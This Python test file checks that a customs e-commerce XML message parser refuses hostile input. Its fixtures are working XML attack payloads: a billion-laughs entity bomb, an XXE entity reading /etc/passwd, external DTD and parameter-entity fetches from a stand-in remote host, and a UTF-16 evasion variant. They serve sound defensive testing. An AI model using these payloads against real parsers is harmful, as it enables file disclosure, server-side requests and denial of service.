"""Hostile input (恶意报文): every refusal is a Problem, nothing crashes, nothing is expanded or fetched."""

from __future__ import annotations

import time

import pytest

from cbec.messages import parse_message
from cbec.messages.dxp import is_envelope, open_envelope
from cbec.messages.receipts import parse_receipts
from cbec.messages.xml import MessageRefused, UnsafeXml, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<ceb:CEB311Message xmlns:ceb="http://www.chinaport.gov.cn/ceb" guid="x" version="1.0">&lol9;</ceb:CEB311Message>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ceb:CEB311Message xmlns:ceb="http://www.chinaport.gov.cn/ceb" guid="x" version="1.0">&xxe;</ceb:CEB311Message>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ceb:CEB311Message SYSTEM "http://203.0.113.1/evil.dtd">
<ceb:CEB311Message xmlns:ceb="http://www.chinaport.gov.cn/ceb" guid="x" version="1.0"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://203.0.113.1/x.dtd"> %remote;]><r/>"""
UNDECLARED_ENTITY = b'<ceb:CEB311Message xmlns:ceb="http://www.chinaport.gov.cn/ceb">&xxe;</ceb:CEB311Message>'
DEEP = b"<a>" * 5000 + b"</a>" * 5000
QUITE_DEEP = (
    b'<ceb:CEB311Message xmlns:ceb="http://www.chinaport.gov.cn/ceb">'
    + b"<x>" * 40
    + b"</x>" * 40
    + b"</ceb:CEB311Message>"
)
DECLARATION_REFUSED = "报文含 DOCTYPE 或实体声明，拒绝处理 / DOCTYPE or entity declarations are not accepted"


def _refusal(data: bytes, **kwargs: object) -> tuple[str, str, float]:
    start = time.perf_counter()
    outcome = parse_message(data, **kwargs)
    elapsed = time.perf_counter() - start
    assert outcome.message is None
    assert outcome.message_type == "Unknown"
    assert len(outcome.problems) == 1
    return outcome.problems[0].rule_id, outcome.problems[0].message, elapsed


@pytest.mark.parametrize(
    "data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY], ids=["bomb", "xxe", "dtd", "pe"]
)
def test_dtds_and_entities_are_refused_before_parsing(data: bytes) -> None:
    rule, message, elapsed = _refusal(data)
    assert (rule, message) == ("FMT-XML", DECLARATION_REFUSED)
    assert elapsed < 0.5


def test_declarations_hidden_in_utf16_are_refused() -> None:
    rule, message, _ = _refusal(
        EXTERNAL_ENTITY.replace(b'version="1.0"?>', b'version="1.0" encoding="UTF-16"?>').decode().encode("utf-16")
    )
    assert (rule, message) == ("FMT-XML", DECLARATION_REFUSED)
    rule, message, _ = _refusal(EXTERNAL_ENTITY.decode().encode("utf-16-le"))
    assert rule == "FMT-XML"


def test_undeclared_entity_is_malformed_xml() -> None:
    rule, message, _ = _refusal(UNDECLARED_ENTITY)
    assert rule == "FMT-XML"
    assert message.startswith("XML 格式错误：Entity 'xxe' not defined")


def test_oversize_payload_is_refused_without_parsing() -> None:
    big = (
        b'<ceb:CEB311Message xmlns:ceb="http://www.chinaport.gov.cn/ceb">'
        + b" " * (10 * 1024 * 1024)
        + b"</ceb:CEB311Message>"
    )
    rule, message, elapsed = _refusal(big)
    assert (rule, message) == ("FMT-XML", "报文超过 10485760 字节上限 / message larger than 10485760 bytes")
    assert elapsed < 0.5
    rule, message, _ = _refusal(b"<a>0123456789</a>", max_bytes=10)
    assert message == "报文超过 10 字节上限 / message larger than 10 bytes"


def test_deep_nesting_is_refused() -> None:
    for data in (DEEP, QUITE_DEEP):
        rule, message, elapsed = _refusal(data)
        assert (rule, message) == ("FMT-XML", "元素嵌套超过 32 层 / elements nested deeper than 32 levels")
        assert elapsed < 0.5


def test_element_count_is_bounded() -> None:
    data = b"<r>" + b"<a/>" * 200 + b"</r>"
    with pytest.raises(UnsafeXml) as caught:
        parse_xml(data, max_elements=100)
    assert caught.value.problem.message == "元素数量超过 100 / more than 100 elements"
    assert len(parse_xml(data)) == 200


@pytest.mark.parametrize(
    ("data", "start"),
    [
        (b"", "报文为空 / message is empty"),
        (b"   \n", "报文为空 / message is empty"),
        (b"\x00\x01garbage\xff\xfe", "无法识别的字符编码 / unrecognised character encoding"),
        (b"this is not xml", "XML 格式错误：Start tag expected"),
        (b"<a><b></a>", "XML 格式错误：Opening and ending tag mismatch"),
        (b"<a/><b/>", "XML 格式错误：Extra content at the end of the document"),
        (b"\xff\xd8\xff\xe0JFIF", "XML 格式错误"),
    ],
)
def test_garbage_is_refused(data: bytes, start: str) -> None:
    rule, message, _ = _refusal(data)
    assert rule == "FMT-XML"
    assert message.startswith(start)


def test_non_bytes_input_is_refused() -> None:
    _rule, message, _ = _refusal("<a/>")  # type: ignore[arg-type]
    assert message == "报文必须是字节串 / message must be bytes"


def test_wrong_namespace_is_not_a_ceb_message() -> None:
    outcome = parse_message(b'<CEB311Message xmlns="http://example.com/ceb" guid="g" version="1.0"/>')
    assert outcome.message is None
    assert outcome.message_type == "Unknown"
    assert outcome.guid == "g"
    assert [(p.rule_id, p.field) for p in outcome.problems] == [("FMT-STRUCTURE", "CEB311Message")]
    assert outcome.problems[0].message == (
        "不是海关跨境电商报文：根元素 {http://example.com/ceb}CEB311Message / "
        "not a CEB message (root element {http://example.com/ceb}CEB311Message)"
    )
    outcome = parse_message(b"<CEB311Message/>")
    assert outcome.problems[0].message.startswith("不是海关跨境电商报文：根元素 CEB311Message")


def test_comments_and_processing_instructions_are_dropped() -> None:
    root = parse_xml(b"<r><!-- note --><?pi data?><a>x</a></r>")
    assert [child.tag for child in root] == ["a"]


def test_other_readers_raise_the_same_typed_refusal() -> None:
    for reader in (parse_receipts, open_envelope):
        with pytest.raises(UnsafeXml) as caught:
            reader(BILLION_LAUGHS)
        assert caught.value.problems[0].message == DECLARATION_REFUSED
        assert isinstance(caught.value, MessageRefused)
        assert isinstance(caught.value, ValueError)
    assert is_envelope(EXTERNAL_ENTITY) is False
